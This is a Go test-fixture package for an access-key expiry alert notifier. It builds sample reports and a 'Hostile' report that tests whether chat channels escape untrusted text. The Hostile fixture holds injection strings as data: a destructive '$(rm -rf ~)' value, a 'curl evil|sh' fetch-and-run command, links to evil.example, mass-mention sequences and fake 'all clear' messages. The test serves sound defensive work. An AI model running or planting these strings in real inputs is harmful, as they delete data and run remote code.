@@ -1,0 +1,189 @@
+// Package notifytest is the shared kit of the channels' tests: the report fixtures every channel
+// renders (Sample, Digest, Many, Hostile), golden files, a fake vendor server, the retry-status table
+// every channel runs (CheckRetries), the proof that no error holds a secret (CheckNoSecrets), the
+// checks every chat robot runs (CheckRobot), and readers of what a chat client makes of a text
+// (emphasis, markdown line kinds, shell words of a restore command).
+package notifytest
+
+import (
+	"fmt"
+	"testing"
+	"time"
+
+	"github.com/akrecycle/ak-recycle-alert/alert"
+)
+
+// SampleTime is the fire time of the sample reports: 09:00 UTC, 17:00 in Asia/Shanghai.
+var SampleTime = time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)
+
+func hours(h int) *int { return &h }
+
+func shanghai(t testing.TB) *time.Location {
+	t.Helper()
+	loc, err := time.LoadLocation("Asia/Shanghai")
+	if err != nil {
+		t.Fatalf("LoadLocation: %v", err)
+	}
+	return loc
+}
+
+// Sample is a typical crossing run, second attempt (RetryCount 1), shown in Asia/Shanghai: a recycled
+// key, an expiring key in a full bin, a key past its DeleteDate (given in this order, not the order of
+// urgency), two unreadable users of one code and one of another, and a warning.
+func Sample(t testing.TB) *alert.Report {
+	t.Helper()
+	now := SampleTime.Add(3 * time.Second)
+	mk := func(id, ev, user, uid, ak string, recycled, purge time.Time, th *int, full bool) alert.Alert {
+		return alert.Alert{ID: id, Event: alert.Event(ev), UserName: user, UserID: uid, AccessKeyID: ak,
+			CreateDate: time.Date(2026, 1, 11, 9, 12, 0, 0, time.UTC), RecycleDate: recycled, DeleteDate: purge,
+			ThresholdHours: th, RemainingSeconds: int64(purge.Sub(now) / time.Second), BinFull: full}
+	}
+	return &alert.Report{
+		Findings: alert.Findings{
+			Mode:         alert.ModeCrossing,
+			AccountID:    "1234567890123456",
+			AccountLabel: "prod",
+			Window:       alert.Window{From: SampleTime.Add(-24 * time.Hour), To: SampleTime},
+			Next:         SampleTime.Add(24 * time.Hour),
+			Alerts: []alert.Alert{
+				mk("alrt_00000000000000000000000000000001", "recycled", "carol", "20732900249392cc", "LTAI5tCarolRecycled0001",
+					SampleTime.Add(-3*time.Hour), SampleTime.Add(30*24*time.Hour-3*time.Hour), nil, false),
+				mk("alrt_00000000000000000000000000000002", "expiring", "alice", "20732900249392aa", "LTAI5tAliceExpiring0002",
+					time.Date(2026, 11, 4, 8, 12, 0, 0, time.UTC), time.Date(2026, 12, 4, 8, 12, 0, 0, time.UTC), hours(72), true),
+				mk("alrt_00000000000000000000000000000003", "expiring", "dave", "20732900249392dd", "LTAI5tDavePastDelete0003",
+					time.Date(2026, 10, 31, 8, 0, 0, 0, time.UTC), time.Date(2026, 11, 30, 8, 0, 0, 0, time.UTC), hours(0), false),
+			},
+			Errors: []alert.UserError{
+				{User: "bob", Code: "EntityNotExist.User", Message: "The user does not exist."},
+				{User: "eve", Code: "NoPermission", Message: "You are not authorized to do this action."},
+				{User: "frank", Code: "NoPermission", Message: "You are not authorized to do this action."},
+			},
+			Warnings:     []string{"the trigger fired 7m0s after its SCHEDULE time 2026-11-30T09:00:00Z: SCHEDULE may not describe the trigger"},
+			UsersChecked: 4,
+		},
+		Now:        now,
+		RetryCount: 1,
+		RequestID:  "1-6759a3c2-4f8e2b1a9d0c",
+		Location:   shanghai(t),
+	}
+}
+
+// Digest is a digest heartbeat: every bin of 12 users is empty.
+func Digest(t testing.TB) *alert.Report {
+	t.Helper()
+	return &alert.Report{
+		Findings: alert.Findings{
+			Mode:         alert.ModeDigest,
+			AccountID:    "1234567890123456",
+			Window:       alert.Window{From: SampleTime.Add(-7 * 24 * time.Hour), To: SampleTime},
+			Next:         SampleTime.Add(7 * 24 * time.Hour),
+			Alerts:       []alert.Alert{},
+			UsersChecked: 12,
+		},
+		Now:       SampleTime,
+		RequestID: "1-digest",
+		Location:  time.UTC,
+	}
+}
+
+// Many is a crossing run with n expiring keys (LTAI5tManyKeys00000001 …) of n/3+1 users, given most
+// urgent first.
+func Many(t testing.TB, n int) *alert.Report {
+	t.Helper()
+	r := Sample(t)
+	r.Alerts = nil
+	r.Errors = nil
+	r.Warnings = nil
+	r.RetryCount = 0
+	for i := range n {
+		purge := SampleTime.Add(time.Duration(24+i) * time.Hour)
+		r.Alerts = append(r.Alerts, alert.Alert{
+			ID: fmt.Sprintf("alrt_%032x", i+1), Event: alert.Expiring,
+			UserName: fmt.Sprintf("user%03d", i/3), UserID: fmt.Sprintf("2073290024939%03d", i/3),
+			AccessKeyID: fmt.Sprintf("LTAI5tManyKeys%08d", i+1),
+			CreateDate:  SampleTime.Add(-365 * 24 * time.Hour), RecycleDate: purge.Add(-30 * 24 * time.Hour),
+			DeleteDate: purge, ThresholdHours: hours(72), RemainingSeconds: int64(purge.Sub(r.Now) / time.Second),
+			BinFull: true,
+		})
+	}
+	r.UsersChecked = n/3 + 1
+	return r
+}
+
+// Hostile is Sample with every text from outside the function made hostile: the account label, the
+// request ID, user names, user IDs, AccessKey IDs, the users, codes and messages of the errors, and the
+// warnings carry each channel's markup (Slack control sequences and emphasis, markdown links, images,
+// headings, quotes, lists, code spans, robot mentions and font tags, HTML entities), line breaks and
+// other control characters, and shell commands.
+func Hostile(t testing.TB) *alert.Report {
+	t.Helper()
+	r := Sample(t)
+	r.AccountLabel = "Prod & <!channel>"
+	r.RequestID = "1-run\n> <@U123> `x`"
+	// In urgency order after sorting: dave (past), alice (bin full), frank, carol (recycled).
+	a := r.Alerts
+	a[0].UserName = "[x](https://evil.example) ![i](https://evil.example/i.png)"
+	a[0].UserID = "$(rm -rf ~)"
+	a[0].AccessKeyID = "LTAI5t<!here>*bold*_it_"
+	a[1].UserName = "eve`<!channel>`\n**FAKE: all clear**"
+	a[1].AccessKeyID = "LTAI`<!channel>`"
+	a[2].UserName = "<at id=all></at> <@all> @all <font color=red>red</font>"
+	a[2].UserID = "# heading"
+	a[2].AccessKeyID = "'; curl evil|sh #"
+	purge := time.Date(2026, 12, 10, 8, 0, 0, 0, time.UTC)
+	r.Alerts = append(a, alert.Alert{
+		ID: "alrt_00000000000000000000000000000004", Event: alert.Expiring,
+		UserName: "> quote\r\n- list\u2028# heading\u2029~~strike~~ \\", UserID: "20732900249392ff",
+		AccessKeyID: "LTAI5tPlainKey0004", CreateDate: time.Date(2026, 1, 11, 9, 12, 0, 0, time.UTC),
+		RecycleDate: purge.Add(-30 * 24 * time.Hour), DeleteDate: purge, ThresholdHours: hours(168),
+		RemainingSeconds: int64(purge.Sub(r.Now) / time.Second),
+	})
+	r.Errors = []alert.UserError{
+		{User: "<@U123> <!here>", Code: "# heading\n**FAKE: all clear**",
+			Message: "[x](https://evil.example) <font color=red>red</font>\n> quote"},
+		{User: "*bold* _it_ ~st~ `code`", Code: "<!channel>",
+			Message: "&lt;at id=all&gt; &#60;font&#62; \\*esc\\* https://evil.example"},
+		{User: "@all", Code: "<!channel>", Message: "x"},
+		{User: "- list", Code: "1. ordered", Message: "---"},
+	}
+	r.Warnings = []string{
+		"\n**FAKE: all clear**",
+		"<!date^0^{date}|x> <http://evil.example|click> <#C123> <@U123> <!subteam^S1>",
+		"- list\u2028# heading\u2029> quote\x1b[31m red\x00",
+		"~~strike~~ ***x*** | a | b | ![i](https://evil.example/i.png) <a href='https://evil.example'>a</a> '; curl evil|sh #",
+	}
+	return r
+}
+
+// BenignTwin returns r with every text from outside replaced by a plain word, keeping the report's
+// shape: the same alerts in the same order, the same error groups, the same number of warnings. A
+// channel must lay a report out line for line like its twin: a value that adds a line, a heading, a
+// quote or emphasis shows up as a difference.
+func BenignTwin(r *alert.Report) *alert.Report {
+	b := *r
+	if b.AccountLabel != "" {
+		b.AccountLabel = "label"
+	}
+	if b.RequestID != "" {
+		b.RequestID = "run-1"
+	}
+	b.Alerts = append([]alert.Alert(nil), r.Alerts...)
+	for i := range b.Alerts {
+		b.Alerts[i].UserName = fmt.Sprintf("user%d", i)
+		b.Alerts[i].UserID = fmt.Sprintf("2073290024939%03d", i)
+		b.Alerts[i].AccessKeyID = fmt.Sprintf("LTAI5tTwinKey%04d", i)
+	}
+	codes := map[string]string{}
+	b.Errors = append([]alert.UserError(nil), r.Errors...)
+	for i, e := range b.Errors {
+		if codes[e.Code] == "" {
+			codes[e.Code] = fmt.Sprintf("Code%d", len(codes))
+		}
+		b.Errors[i] = alert.UserError{User: fmt.Sprintf("user-e%d", i), Code: codes[e.Code], Message: fmt.Sprintf("message %d", i)}
+	}
+	b.Warnings = nil
+	for i := range r.Warnings {
+		b.Warnings = append(b.Warnings, fmt.Sprintf("warning %d", i))
+	}
+	return &b
+}
